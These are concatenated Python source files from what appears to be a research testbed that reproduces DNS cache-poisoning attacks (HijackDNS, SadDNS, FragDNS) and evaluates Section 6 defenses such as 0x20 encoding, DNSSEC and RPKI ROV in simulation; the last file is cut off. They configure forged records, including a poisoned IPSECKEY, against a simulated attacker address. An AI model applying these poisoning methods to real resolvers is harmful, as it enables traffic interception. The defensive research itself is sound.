    for real — ``invalid`` is filtered, ``unknown`` still propagates
    (which is exactly the downgrade the paper's RPKI kill chain
    exploits).
    """

    key = "rpki-rov"
    aliases = ("rov", "rpki")
    layer = "bgp"
    paper_section = "6.1 (Securing BGP)"
    description = "RPKI route-origin validation filters the hijack"
    defeats = ("HijackDNS",)
    writes = ("world.rov",)

    deployment: RovDeployment = RovDeployment()

    def apply(self, config: WorldConfig) -> WorldConfig:
        from dataclasses import replace

        return replace(config, rov=self.deployment)

    def profile_facts(self) -> dict[str, bool]:
        return {"rov_protects_prefixes": True}


#: The eight Section 6 defenses in the paper's presentation order
#: (mirrors ``repro.countermeasures.ALL_MITIGATIONS``).
DEFENSE_0X20 = register_defense(Encoding0x20())
DEFENSE_RANDOMIZE_RECORDS = register_defense(RandomizeRecords())
DEFENSE_BLOCK_FRAGMENTS = register_defense(BlockFragments())
DEFENSE_PMTU_CLAMP = register_defense(PmtuClamp())
DEFENSE_NO_ICMP = register_defense(NoIcmpErrors())
DEFENSE_RANDOMIZED_ICMP_LIMIT = register_defense(RandomizedIcmpLimit())
DEFENSE_DNSSEC = register_defense(Dnssec())
DEFENSE_ROV = register_defense(RpkiRov())

ALL_DEFENSES = (
    DEFENSE_0X20,
    DEFENSE_RANDOMIZE_RECORDS,
    DEFENSE_BLOCK_FRAGMENTS,
    DEFENSE_PMTU_CLAMP,
    DEFENSE_NO_ICMP,
    DEFENSE_RANDOMIZED_ICMP_LIMIT,
    DEFENSE_DNSSEC,
    DEFENSE_ROV,
)


def single_stacks() -> list[DefenseStack]:
    """One single-defense stack per registered Section 6 defense."""
    return [DefenseStack.of(defense) for defense in ALL_DEFENSES]


def pairwise_stacks() -> list[DefenseStack]:
    """Every two-defense combination of the Section 6 defenses."""
    stacks = []
    for i, first in enumerate(ALL_DEFENSES):
        for second in ALL_DEFENSES[i + 1:]:
            stacks.append(DefenseStack.of(first, second))
    return stacks
