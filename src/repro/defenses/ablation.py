"""The (attack x defense-stack) ablation grid, on the campaign runner.

Generalises the old single-mitigation ablation: every cell is one
methodology run against one :class:`repro.defenses.DefenseStack` on a
fresh attack-friendly testbed, and the outcome is compared against the
stack's combined Section 6 expectation (the union of its members'
``defeats`` claims).  Cells execute through
:class:`repro.scenario.Campaign`, so a grid parallelises across worker
processes exactly like any other sweep — bit-identically.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Iterable, Sequence

from repro.attacks.fragdns import FragDnsConfig
from repro.attacks.saddns import SadDnsConfig
from repro.defenses.base import DefenseStack
from repro.dns.nameserver import NameserverConfig
from repro.dns.records import rr_a
from repro.netsim.host import HostConfig
from repro.scenario.campaign import Campaign
from repro.scenario.spec import AttackScenario
from repro.testbed import ATTACKER_IP, FRAG_TARGET_NAME

ATTACK_NAMES = ("HijackDNS", "SadDNS", "FragDNS")


@dataclass
class AblationCell:
    """Outcome of one (attack, defense-stack) pair."""

    attack: str
    defense: str
    attack_succeeded: bool
    expected_defeated: bool

    @property
    def matches_expectation(self) -> bool:
        """True when reality agrees with the Section 6 claim."""
        return self.attack_succeeded != self.expected_defeated

    @property
    def mitigation(self) -> str:
        """Deprecated alias: the old cell field name for the stack key."""
        return self.defense


def _attack_friendly_overrides(attack: str) -> dict[str, Any]:
    """Scenario overrides that make ``attack`` succeed un-defended.

    The resolver's ephemeral port range is narrowed so the probabilistic
    attacks converge in seconds: the defenses under test are categorical
    (they reduce the success probability to zero), so the smaller search
    space does not change any verdict.
    """
    resolver_host = HostConfig(ephemeral_low=20000, ephemeral_high=24095)
    if attack == "SadDNS":
        return {"ns_config": NameserverConfig(rrl_enabled=True),
                "resolver_host_config": resolver_host}
    if attack == "FragDNS":
        return {"ns_host_config": HostConfig(ipid_policy="global",
                                             min_accepted_mtu=68),
                "resolver_host_config": resolver_host}
    if attack == "HijackDNS":
        return {"resolver_host_config": resolver_host}
    raise ValueError(f"unknown attack {attack!r}")


def defended_scenario(attack: str, stack: DefenseStack | None = None,
                      label: str | None = None,
                      saddns_iterations: int = 400,
                      frag_attempts: int = 120) -> AttackScenario:
    """Declare one (attack, defense-stack) cell as a scenario.

    The stack is applied declaratively (``AttackScenario.defenses``);
    ROV in particular deploys real RPKI validation into the world
    instead of flipping the old ``capture_possible`` switch.
    """
    stack = stack if stack is not None else DefenseStack()
    overrides = _attack_friendly_overrides(attack)
    label = label if label is not None else stack.key
    defenses = stack if stack else None
    if attack == "HijackDNS":
        return AttackScenario(
            method="HijackDNS", label=f"HijackDNS vs {label}",
            defenses=defenses, **overrides,
        )
    if attack == "SadDNS":
        # Race the long testbed name: its 16 case-able letters make the
        # 0x20 challenge categorical within any realistic budget
        # (2^-16 per forged flood) — racing the 6-letter apex would
        # turn the 0x20 cells into per-seed coin flips.
        return AttackScenario(
            method="SadDNS", label=f"SadDNS vs {label}",
            qname=FRAG_TARGET_NAME,
            malicious_records=(rr_a(FRAG_TARGET_NAME, ATTACKER_IP,
                                    ttl=86400),),
            attack_config=SadDnsConfig(max_iterations=saddns_iterations),
            defenses=defenses, **overrides,
        )
    # A multi-address answer (a multi-homed service) gives the
    # record-order randomisation defense something to shuffle: with six
    # records there are 720 possible second fragments, taking the
    # per-attempt checksum-match probability far below the attempt
    # budget.
    return AttackScenario(
        method="FragDNS", label=f"FragDNS vs {label}",
        qname=FRAG_TARGET_NAME,
        extra_target_records=tuple(
            rr_a(FRAG_TARGET_NAME, f"123.0.0.{81 + index}", ttl=300)
            for index in range(5)
        ),
        attack_config=FragDnsConfig(max_attempts=frag_attempts,
                                    attempt_spacing=0.2),
        defenses=defenses, **overrides,
    )


def evaluate_defense_matrix(stacks: Sequence[DefenseStack],
                            attacks: Iterable[str] = ATTACK_NAMES,
                            seed: str = "ablation",
                            saddns_iterations: int = 400,
                            frag_attempts: int = 120,
                            workers: int | str | None = None,
                            executor: str = "process",
                            store: Any = None) -> list[AblationCell]:
    """Run the full (attack x stack) grid on one campaign pool.

    Cell seeds derive from ``(seed, attack, stack.key)`` — the same
    strings the old mitigation grid used for single-defense stacks, so
    old-vs-new runs are bit-comparable.  ``store`` forwards to the
    campaign: grid cells already stored are loaded instead of re-run.

    The grid defaults to the shared-world process executor: every cell
    is a distinct scenario, so the old per-batch pickling shipped the
    whole world per cell, while the initializer path ships the table
    once per worker and steals cells as workers go idle.  Single-CPU
    hosts downgrade to the bit-identical serial loop automatically.
    """
    cells: list[tuple[str, DefenseStack]] = []
    pairs: list[tuple[AttackScenario, Any]] = []
    for attack in attacks:
        for stack in stacks:
            scenario = defended_scenario(
                attack, stack,
                saddns_iterations=saddns_iterations,
                frag_attempts=frag_attempts,
            )
            cells.append((attack, stack))
            pairs.append((scenario, f"{seed}-{attack}-{stack.key}"))
    runs = Campaign(workers=workers, executor=executor).run_pairs(
        pairs, store=store).runs
    return [
        AblationCell(
            attack=attack, defense=stack.key,
            attack_succeeded=run.success,
            expected_defeated=attack in stack.defeats,
        )
        for (attack, stack), run in zip(cells, runs)
    ]


def classify_pair(stack: DefenseStack) -> str:
    """Redundant or complementary, from the members' defeat claims.

    A pair is *complementary* when it defeats strictly more than either
    member alone, and *redundant* when one member already covers the
    pair's whole defeat set.  The pairwise ablation verifies the
    classification empirically: complementary pairs block attacks in
    the grid that neither member's single-defense row blocked alone.
    """
    if len(stack) != 2:
        raise ValueError(f"not a pair: {stack.key}")
    combined = set(stack.defeats)
    first, second = stack.defenses
    if combined == set(first.defeats) or combined == set(second.defeats):
        return "redundant"
    return "complementary"
