"""The composable defense-stack core: pure transforms over world config.

Section 6 recommends countermeasures; this module makes them *stackable
scenario citizens*.  A :class:`Defense` is a frozen, picklable spec with
one behaviour: ``apply(world_config) -> world_config``, a pure transform
over the :class:`WorldConfig` value that parameterises
:func:`repro.testbed.standard_testbed`.  Nothing is ever mutated — not
the incoming config, and not any resolver/nameserver/host config the
caller supplied (the bug class the old ``Mitigation.testbed_kwargs``
had).

A :class:`DefenseStack` composes defenses across layers (``ip`` /
``transport`` / ``dns`` / ``bgp`` / ``app``).  Two rules make stacks
well-behaved values:

* **ordering** — members are kept in canonical (layer, key) order, so
  stacks declared in any order compare, hash-key and pickle the same;
  composition is order-insensitive *by construction* because of
* **conflicts** — every defense declares the configuration knobs it
  ``writes``; two members writing the same knob (including two copies
  of the same defense with different tunables) raise
  :class:`DefenseError` at stack construction instead of silently
  last-wins overwriting each other.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any, ClassVar, Iterable

from repro.core.errors import ConfigurationError
from repro.defenses.rov import RovDeployment
from repro.dns.nameserver import NameserverConfig
from repro.dns.resolver import ResolverConfig
from repro.netsim.host import HostConfig
from repro.testbed import default_resolver_config

if TYPE_CHECKING:  # pragma: no cover - typing only, avoids the cycle
    from repro.attacks.planner import TargetProfile

#: Stack composition order: a defense declares the layer it operates at
#: and stacks apply bottom-up (the same order the packets traverse).
LAYERS = ("ip", "transport", "dns", "bgp", "app")


class DefenseError(ConfigurationError):
    """A defense or defense stack is malformed (unknown name, layer
    outside :data:`LAYERS`, or two members writing the same knob)."""


@dataclass(frozen=True, slots=True)
class WorldConfig:
    """The declarative inputs of ``standard_testbed``, as one value.

    ``None`` config fields mean "the testbed default"; the ``with_*``
    helpers materialise that default before rewriting a knob, so a
    defense can flip a switch without knowing whether the scenario
    overrode the config — and without mutating it if it did.
    """

    resolver_config: ResolverConfig | None = None
    ns_config: NameserverConfig | None = None
    ns_host_config: HostConfig | None = None
    resolver_host_config: HostConfig | None = None
    signed_target: bool = False
    rov: RovDeployment | None = None

    # -- pure single-knob rewrites ---------------------------------------------

    def with_resolver(self, **changes: Any) -> "WorldConfig":
        """A copy whose resolver config has ``changes`` applied."""
        base = self.resolver_config if self.resolver_config is not None \
            else default_resolver_config()
        return replace(self, resolver_config=replace(base, **changes))

    def with_ns(self, **changes: Any) -> "WorldConfig":
        """A copy whose nameserver config has ``changes`` applied."""
        base = self.ns_config if self.ns_config is not None \
            else NameserverConfig()
        return replace(self, ns_config=replace(base, **changes))

    def with_resolver_host(self, **changes: Any) -> "WorldConfig":
        """A copy whose resolver host config has ``changes`` applied."""
        base = self.resolver_host_config \
            if self.resolver_host_config is not None else HostConfig()
        return replace(self, resolver_host_config=replace(base, **changes))

    def with_ns_host(self, **changes: Any) -> "WorldConfig":
        """A copy whose nameserver host config has ``changes`` applied."""
        base = self.ns_host_config if self.ns_host_config is not None \
            else HostConfig()
        return replace(self, ns_host_config=replace(base, **changes))

    def testbed_kwargs(self) -> dict[str, Any]:
        """Keyword arguments for :func:`repro.testbed.standard_testbed`.

        ``rov`` is not a testbed knob — the scenario build deploys it
        onto the world after construction (see
        ``AttackScenario.make_world``).
        """
        return {
            "resolver_config": self.resolver_config,
            "ns_config": self.ns_config,
            "ns_host_config": self.ns_host_config,
            "resolver_host_config": self.resolver_host_config,
            "signed_target": self.signed_target,
        }

    # Frozen+slots dataclasses only pickle out of the box from Python
    # 3.11; defended scenarios ship to campaign workers on 3.10 too.
    def __getstate__(self):
        return tuple(getattr(self, f.name)
                     for f in dataclasses.fields(self))

    def __setstate__(self, state):
        for f, value in zip(dataclasses.fields(self), state):
            object.__setattr__(self, f.name, value)


class Defense:
    """One deployable Section 6 countermeasure.

    Concrete defenses are frozen ``slots`` dataclasses: the *spec* —
    key, layer, the knobs it writes, which methodologies it is expected
    to defeat — lives on the class; instance fields hold only tunables
    (e.g. the PMTU clamp floor).  Subclasses implement :meth:`apply`
    as a pure transform and may override :meth:`profile_facts` to make
    the planner's Table 1 reasoning defense-aware.
    """

    __slots__ = ()

    key: ClassVar[str]
    aliases: ClassVar[tuple[str, ...]] = ()
    layer: ClassVar[str]
    paper_section: ClassVar[str]
    description: ClassVar[str]
    #: Methodologies this defense is expected to stop (the Section 6
    #: claim the ablation grid verifies).
    defeats: ClassVar[tuple[str, ...]] = ()
    #: Configuration knobs written by :meth:`apply`, as
    #: ``"section.field"`` strings — the stack's conflict rule.
    writes: ClassVar[tuple[str, ...]] = ()

    def apply(self, config: WorldConfig) -> WorldConfig:
        """Return a defended copy of ``config`` (never mutate it)."""
        raise NotImplementedError

    def profile_facts(self) -> dict[str, bool]:
        """Planner-fact overrides this defense imposes on a target.

        Keys are :class:`repro.attacks.planner.TargetProfile` field
        names; :meth:`DefenseStack.harden_profile` folds them in so the
        Table 1 verdicts account for the deployed stack.
        """
        return {}

    def describe(self) -> str:
        return f"[{self.layer}] {self.key}: {self.description} " \
               f"(§{self.paper_section}; defeats {', '.join(self.defeats)})"

    def __repr__(self) -> str:  # tunable-free defenses read as their key
        fields = dataclasses.fields(self) if dataclasses.is_dataclass(self) \
            else ()
        tunables = ", ".join(f"{f.name}={getattr(self, f.name)!r}"
                             for f in fields)
        return f"{type(self).__name__}({tunables})"

    # py3.10-safe pickling for frozen slots dataclass subclasses.
    def __getstate__(self):
        return tuple(getattr(self, f.name)
                     for f in dataclasses.fields(self))

    def __setstate__(self, state):
        for f, value in zip(dataclasses.fields(self), state):
            object.__setattr__(self, f.name, value)


def _canonical(defenses: Iterable[Defense]) -> tuple[Defense, ...]:
    """Validate a member list and return it in canonical stack order."""
    members = tuple(defenses)
    for defense in members:
        if not isinstance(defense, Defense):
            raise DefenseError(
                f"not a Defense: {defense!r} (resolve names through"
                " DefenseStack.of / resolve_defense)")
        if defense.layer not in LAYERS:
            raise DefenseError(
                f"{defense.key}: unknown layer {defense.layer!r};"
                f" declared layers are {LAYERS}")
    keys = [defense.key for defense in members]
    for key in keys:
        if keys.count(key) > 1:
            raise DefenseError(f"duplicate defense in stack: {key}")
    seen: dict[str, str] = {}
    for defense in members:
        for knob in defense.writes:
            owner = seen.get(knob)
            if owner is not None:
                raise DefenseError(
                    f"conflicting defenses: {owner} and {defense.key}"
                    f" both write {knob}")
            seen[knob] = defense.key
    return tuple(sorted(members,
                        key=lambda d: (LAYERS.index(d.layer), d.key)))


@dataclass(frozen=True, slots=True)
class DefenseStack:
    """An ordered, conflict-checked composition of defenses.

    Stacks are values: picklable, comparable, and order-insensitive —
    ``DefenseStack.of("dnssec", "rpki-rov")`` equals
    ``DefenseStack.of("rpki-rov", "dnssec")`` because members are kept
    in canonical (layer, key) order and the conflict rule guarantees no
    two members write the same knob, so composition commutes.
    """

    defenses: tuple[Defense, ...] = ()

    def __post_init__(self):
        object.__setattr__(self, "defenses", _canonical(self.defenses))

    @classmethod
    def of(cls, *defenses: "Defense | str") -> "DefenseStack":
        """Build a stack from defenses and/or registry names."""
        from repro.defenses.catalog import resolve_defense

        return cls(tuple(resolve_defense(d) for d in defenses))

    @classmethod
    def parse(cls, text: str) -> "DefenseStack":
        """Parse a ``"key+key+..."`` spelling (``"none"`` = empty)."""
        text = text.strip()
        if not text or text.lower() == "none":
            return cls()
        return cls.of(*(part for part in text.split("+") if part))

    # -- value surface ---------------------------------------------------------

    @property
    def key(self) -> str:
        """Canonical name: member keys joined by ``+`` (``"none"``)."""
        return "+".join(d.key for d in self.defenses) if self.defenses \
            else "none"

    @property
    def layers(self) -> tuple[str, ...]:
        """The distinct layers this stack touches, bottom-up."""
        return tuple(layer for layer in LAYERS
                     if any(d.layer == layer for d in self.defenses))

    @property
    def defeats(self) -> tuple[str, ...]:
        """Union of the members' expected-defeat claims."""
        combined: list[str] = []
        for defense in self.defenses:
            for method in defense.defeats:
                if method not in combined:
                    combined.append(method)
        return tuple(sorted(combined))

    def __len__(self) -> int:
        return len(self.defenses)

    def __iter__(self):
        return iter(self.defenses)

    def __bool__(self) -> bool:
        return bool(self.defenses)

    # -- behaviour -------------------------------------------------------------

    def apply(self, config: WorldConfig) -> WorldConfig:
        """Fold every member's transform over ``config`` (pure)."""
        for defense in self.defenses:
            config = defense.apply(config)
        return config

    def harden_profile(self, profile: "TargetProfile") -> "TargetProfile":
        """A copy of ``profile`` with every member's facts applied.

        This is what makes the planner defense-aware: the hardened
        profile answers Table 1's infrastructure questions as they hold
        *after* the stack is deployed.
        """
        facts: dict[str, bool] = {}
        for defense in self.defenses:
            facts.update(defense.profile_facts())
        return replace(profile, **facts) if facts else profile

    def describe(self) -> str:
        if not self.defenses:
            return "defense stack: none"
        lines = [f"defense stack: {self.key}"]
        lines.extend(f"  {d.describe()}" for d in self.defenses)
        return "\n".join(lines)

    def __getstate__(self):
        return (self.defenses,)

    def __setstate__(self, state):
        object.__setattr__(self, "defenses", state[0])
