"""Composable defense stacks: Section 6 mitigations as scenario citizens.

Three layers, mirroring the scenario API:

* **Declare** — a :class:`Defense` is a frozen, picklable spec whose
  ``apply(world_config)`` is a pure transform; the catalog registers
  all eight Section 6 defenses (:func:`resolve_defense`,
  :func:`available_defenses`).
* **Compose** — a :class:`DefenseStack` stacks defenses across layers
  (``ip``/``transport``/``dns``/``bgp``/``app``) with canonical
  ordering and knob-conflict checking; ``harden_profile`` makes the
  Table 1 planner defense-aware.
* **Evaluate** — :func:`evaluate_defense_matrix` runs any (attack x
  stack) grid through the campaign runner;
  ``AttackScenario(defenses=...)``, ``Campaign.run_defended`` and
  ``atlas calibrate --defend`` consume the same stacks end to end.

Quickstart::

    from repro.defenses import DefenseStack
    from repro.scenario import AttackScenario

    stack = DefenseStack.of("0x20-encoding", "rpki-rov")
    run = AttackScenario(method="hijack", defenses=stack).run(seed=1)
    assert not run.success      # ROV filtered the announcement
"""

from repro.defenses.base import (
    LAYERS,
    Defense,
    DefenseError,
    DefenseStack,
    WorldConfig,
)
from repro.defenses.catalog import (
    ALL_DEFENSES,
    DEFENSE_0X20,
    DEFENSE_BLOCK_FRAGMENTS,
    DEFENSE_DNSSEC,
    DEFENSE_NO_ICMP,
    DEFENSE_PMTU_CLAMP,
    DEFENSE_RANDOMIZED_ICMP_LIMIT,
    DEFENSE_RANDOMIZE_RECORDS,
    DEFENSE_ROV,
    available_defenses,
    pairwise_stacks,
    register_defense,
    resolve_defense,
    single_stacks,
)
from repro.defenses.rov import (
    HIJACKER_ASN,
    TARGET_ORIGIN_ASN,
    RovDeployment,
    RovFilter,
)

#: Grid names re-exported lazily: the ablation module sits *above* the
#: scenario API (it runs grids on Campaign), while this package's core
#: sits *below* it (AttackScenario holds a DefenseStack) — eager import
#: here would cycle through repro.scenario.
_ABLATION_EXPORTS = ("ATTACK_NAMES", "AblationCell", "classify_pair",
                     "defended_scenario", "evaluate_defense_matrix")


def __getattr__(name: str):
    if name in _ABLATION_EXPORTS:
        from repro.defenses import ablation

        return getattr(ablation, name)
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")


__all__ = [
    "ALL_DEFENSES",
    "ATTACK_NAMES",
    "AblationCell",
    "DEFENSE_0X20",
    "DEFENSE_BLOCK_FRAGMENTS",
    "DEFENSE_DNSSEC",
    "DEFENSE_NO_ICMP",
    "DEFENSE_PMTU_CLAMP",
    "DEFENSE_RANDOMIZED_ICMP_LIMIT",
    "DEFENSE_RANDOMIZE_RECORDS",
    "DEFENSE_ROV",
    "Defense",
    "DefenseError",
    "DefenseStack",
    "HIJACKER_ASN",
    "LAYERS",
    "RovDeployment",
    "RovFilter",
    "TARGET_ORIGIN_ASN",
    "WorldConfig",
    "available_defenses",
    "classify_pair",
    "defended_scenario",
    "evaluate_defense_matrix",
    "pairwise_stacks",
    "register_defense",
    "resolve_defense",
    "single_stacks",
]
