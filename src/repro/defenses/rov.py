"""ROV as a real BGP-layer defense: ROAs + RFC 6811 origin validation.

The old countermeasure module faked RPKI-ROV with a ``capture_possible``
flag on the hijack scenario.  Here the defense is the real thing: a
:class:`RovDeployment` declares which ROAs the networks' relying parties
have validated (by default, a ROA protecting the built world's target
nameserver prefix), and the deployed :class:`RovFilter` runs every
hijack announcement through :func:`repro.bgp.rpki.validate_origin`.  An
``invalid`` announcement is filtered before it propagates — the
HijackDNS attack consults the filter and never captures the path.

The deliberate limit of the defense is the paper's headline point: ROV
only filters *invalid* announcements.  If the relying parties' ROA set
does not cover the hijacked prefix (or was emptied by poisoning the
repository's DNS name — the ``rpki`` kill-chain app), the announcement
validates ``unknown`` and sails through.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass

from repro.bgp.hijack import ATTACKER_ASN as HIJACKER_ASN
from repro.bgp.prefix import Prefix
from repro.bgp.rpki import INVALID, Roa, validate_origin

#: ``vict.im``'s nameserver prefix (``123.0.0.0/24``) is originated by
#: AS 123; the attacker announces from :data:`HIJACKER_ASN` (the shared
#: ``repro.bgp.hijack.ATTACKER_ASN``).
TARGET_ORIGIN_ASN = 123


@dataclass(frozen=True, slots=True)
class RovFilter:
    """A deployed validated-ROA cache routers consult before importing.

    This models relying parties with a *healthy* validated cache (the
    state the ``rpki`` app driver's attack destroys): validation is the
    genuine RFC 6811 procedure over the published ROAs.
    """

    roas: tuple[Roa, ...]

    def validate(self, prefix: Prefix | str, origin: int) -> str:
        """RFC 6811 state of one announcement: valid/invalid/unknown."""
        if isinstance(prefix, str):
            prefix = Prefix.parse(prefix)
        return validate_origin(list(self.roas), prefix, origin)

    def filters(self, prefix: Prefix | str, origin: int) -> bool:
        """Whether ROV drops the announcement (only ``invalid`` is)."""
        return self.validate(prefix, origin) == INVALID

    def __getstate__(self):
        return (self.roas,)

    def __setstate__(self, state):
        object.__setattr__(self, "roas", state[0])


@dataclass(frozen=True, slots=True)
class RovDeployment:
    """Declarative ROV: which ROAs exist, resolved against a world.

    An empty ``roas`` tuple means "protect the built world's target
    nameserver prefix" — the common case, resolved at deploy time so
    one spec works for any testbed layout.
    """

    roas: tuple[Roa, ...] = ()

    def deploy(self, world: dict) -> RovFilter:
        """Materialise the filter against a built testbed world."""
        roas = self.roas
        if not roas:
            ns_prefix = Prefix.parse(f"{world['target'].ns_ip}/24")
            roas = (Roa(prefix=ns_prefix, max_length=ns_prefix.length,
                        origin=TARGET_ORIGIN_ASN),)
        return RovFilter(roas=roas)

    def __getstate__(self):
        return tuple(getattr(self, f.name)
                     for f in dataclasses.fields(self))

    def __setstate__(self, state):
        for f, value in zip(dataclasses.fields(self), state):
            object.__setattr__(self, f.name, value)
