"""VPN tunnelling: OpenVPN, IKE, and opportunistic IPsec (Table 1).

Two distinct outcomes from the paper:

* **OpenVPN / IKE with authentication** — the gateway name comes from
  private client configuration ("config"), and the tunnel is mutually
  authenticated; redirecting the client to the attacker only yields
  **denial of service** ("DoS: no VPN access").
* **IKE opportunistic encryption** — peers fetch each other's public
  keys from IPSECKEY records; a poisoned record substitutes the
  attacker's key and gateway, silently turning the "encrypted" tunnel
  into **interception** ("Hijack: eavesdropping").
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_CONFIG,
    QUERY_TARGET,
    Table1Row,
    USE_LOCATION,
)
from repro.apps.driver import AppDriver, host_at, register_driver
from repro.attacks.planner import TargetProfile
from repro.dns.records import TYPE_IPSECKEY
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

OPENVPN_PORT = 1194
IKE_PORT = 500


class VpnGateway:
    """A VPN concentrator that only accepts clients knowing the PSK."""

    def __init__(self, host: Host, psk: str, port: int = OPENVPN_PORT):
        self.host = host
        self.psk = psk
        self.established = 0
        host.stream_handlers[port] = self._handshake

    def _handshake(self, payload: bytes, src: str) -> bytes:
        if payload.decode("utf-8", "replace") == self.psk:
            self.established += 1
            return b"TUNNEL-UP"
        return b"AUTH-FAIL"


class OpenVpnClient(Application):
    """An OpenVPN client connecting to its configured gateway name."""

    row = Table1Row(
        category="Tunnelling", protocol="OpenVPN", use_case="VPN",
        query_name=QUERY_CONFIG, query_known=False,
        trigger_method="connection DoS", record_types=["A"],
        dns_use=USE_LOCATION, impact="DoS: no VPN aceess",
    )

    def __init__(self, host: Host, stub: StubResolver,
                 gateway_name: str, psk: str, port: int = OPENVPN_PORT):
        self.host = host
        self.stub = stub
        self.gateway_name = gateway_name
        self.psk = psk
        self.port = port
        self.tunnel_up = False

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def connect(self) -> AppOutcome:
        """Resolve the gateway and attempt an authenticated handshake."""
        answer = self.stub.lookup(self.gateway_name, "A")
        address = answer.first_address()
        if address is None:
            return AppOutcome(app="openvpn", action="connect", ok=False,
                              detail={"error": "gateway did not resolve"})
        network = self.host.network
        assert network is not None
        box: dict[str, bytes | None] = {}
        network.stream_request(self.host, address, self.port,
                               self.psk.encode("utf-8"),
                               lambda data: box.update(data=data))
        deadline = network.now + 3.0
        while "data" not in box and network.now < deadline:
            if not network.scheduler.run_next():
                break
        self.tunnel_up = box.get("data") == b"TUNNEL-UP"
        return AppOutcome(
            app="openvpn", action="connect", ok=self.tunnel_up,
            used_address=address,
            detail={} if self.tunnel_up else {
                "error": "handshake failed",
                "effect": "client cannot reach the VPN (DoS)",
            },
        )


class IkeApplication(Application):
    """Table 1 row object for authenticated IKE VPN configuration."""

    row = Table1Row(
        category="Tunnelling", protocol="IKE", use_case="VPN",
        query_name=QUERY_CONFIG, query_known=False,
        trigger_method="connection DoS", record_types=["A"],
        dns_use=USE_LOCATION, impact="DoS: no VPN aceess",
    )

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)


class OpportunisticIpsecPeer(Application):
    """Opportunistic encryption: keys fetched from IPSECKEY records."""

    row = Table1Row(
        category="Tunnelling", protocol="IKE",
        use_case="Opportunistic Enc.", query_name=QUERY_TARGET,
        query_known=True, trigger_method="bounce",
        record_types=["IPSECKEY"], dns_use=USE_LOCATION,
        impact="Hijack: eavesdropping",
    )

    def __init__(self, host: Host, stub: StubResolver):
        self.host = host
        self.stub = stub
        self.sessions: list[dict] = []

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def establish(self, peer_name: str) -> AppOutcome:
        """Fetch the peer's IPSECKEY and "encrypt" to that key/gateway.

        There is no authentication beyond DNS in opportunistic mode, so
        whatever gateway/key the (possibly poisoned) record names becomes
        the session endpoint.
        """
        answer = self.stub.lookup(peer_name, TYPE_IPSECKEY)
        for record in answer.records:
            if record.rtype == TYPE_IPSECKEY:
                gateway, public_key = record.data
                session = {
                    "peer": peer_name,
                    "gateway": gateway,
                    "key": public_key,
                }
                self.sessions.append(session)
                return AppOutcome(
                    app="ipsec", action="establish", ok=True,
                    used_address=gateway,
                    detail=session,
                )
        return AppOutcome(app="ipsec", action="establish", ok=False,
                          detail={"error": "no IPSECKEY published"})


# -- kill-chain drivers --------------------------------------------------------


class _TunnelDoSDriver(AppDriver):
    """Shared mechanics for the authenticated-tunnel DoS rows.

    The gateway name resolves to the attacker, the mutually
    authenticated handshake fails, and the client is locked out of its
    VPN — Table 1's "DoS: no VPN access" for OpenVPN and IKE alike.
    """

    port = OPENVPN_PORT

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        VpnGateway(host_at(world, ctx["genuine_ip"], "vpn-origin"),
                   psk="shared-secret", port=self.port)
        ctx["client"] = OpenVpnClient(ctx["app_host"], ctx["stub"],
                                      gateway_name=qname,
                                      psk="shared-secret", port=self.port)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["client"].connect(),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        connect = outcomes[0]
        return not connect.ok \
            and connect.used_address == ctx["malicious_ip"]


class OpenVpnDriver(_TunnelDoSDriver):
    name = "openvpn"
    application = OpenVpnClient
    port = OPENVPN_PORT


class IkeDriver(_TunnelDoSDriver):
    name = "ike"
    application = IkeApplication
    port = IKE_PORT


class IpsecDriver(AppDriver):
    """Opportunistic IPsec keys come straight from (poisoned) DNS.

    The planted IPSECKEY record rides along in the HijackDNS/SadDNS
    forgery; FragDNS only rewrites A rdata, so it cannot plant one.
    """

    name = "ipsec"
    application = OpportunisticIpsecPeer
    methods = ("HijackDNS", "SadDNS")

    def malicious_records(self, qname: str, attacker_ip: str):
        from repro.dns.records import rr_a, rr_ipseckey

        return (rr_a(qname, attacker_ip, ttl=86400),
                rr_ipseckey(qname, attacker_ip, "attacker-key", ttl=86400))

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        from repro.dns.records import rr_ipseckey

        ctx = self.base_ctx(world, qname, malicious_ip)
        world["target"].zone.add(
            rr_ipseckey(qname, ctx["genuine_ip"], "genuine-key", ttl=300))
        ctx["peer"] = OpportunisticIpsecPeer(ctx["app_host"], ctx["stub"])
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["peer"].establish(ctx["qname"]),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        session = outcomes[0]
        # "Encryption" is now to the attacker's key and gateway: silent
        # interception, not a failure the peer could notice.
        return session.ok and session.used_address == ctx["malicious_ip"] \
            and session.detail.get("key") == "attacker-key"


register_driver(OpenVpnDriver())
register_driver(IkeDriver())
register_driver(IpsecDriver())
