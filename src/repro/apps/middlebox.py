"""Intermediate devices: firewalls, load balancers, CDNs, ALIAS, proxies.

Table 1's "Intermediate devices" category and the whole of Table 2: the
devices resolve configured hostnames either on their own **timer** or
**on demand** when client traffic arrives, and cache the result for a
product-specific time.  That trigger/caching behaviour decides whether
an attacker can force (or must predict) the query — which is what the
Table 2 bench measures against these models.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_CONFIG,
    QUERY_TARGET,
    Table1Row,
    USE_LOCATION,
)
from repro.apps.driver import AppDriver, register_driver
from repro.attacks.planner import TargetProfile
from repro.dns.stub import StubResolver

TRIGGER_TIMER = "timer"
TRIGGER_ON_DEMAND = "on-demand"
